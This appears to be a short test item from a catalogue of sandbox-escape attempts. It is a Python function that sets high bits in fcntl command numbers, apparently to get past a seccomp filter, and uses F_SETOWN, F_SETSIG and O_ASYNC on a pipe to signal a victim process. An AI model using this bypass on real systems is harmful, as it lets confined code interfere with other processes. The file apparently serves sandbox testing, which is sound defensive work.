# row: mistake-7-ioctl
# layer: seccomp
# crosses: victim
# with: syscalls
# attempt: fcntl
import time


def main(target):
    reading, writing = os.pipe()
    high = 1 << 32
    syscall("fcntl", reading, 8 | high, target["victim"])
    syscall("fcntl", reading, 10 | high, 9)
    syscall("fcntl", reading, 4 | high, os.O_NONBLOCK | 0o20000)
    os.write(writing, b"x")
    time.sleep(0.1)
    return True
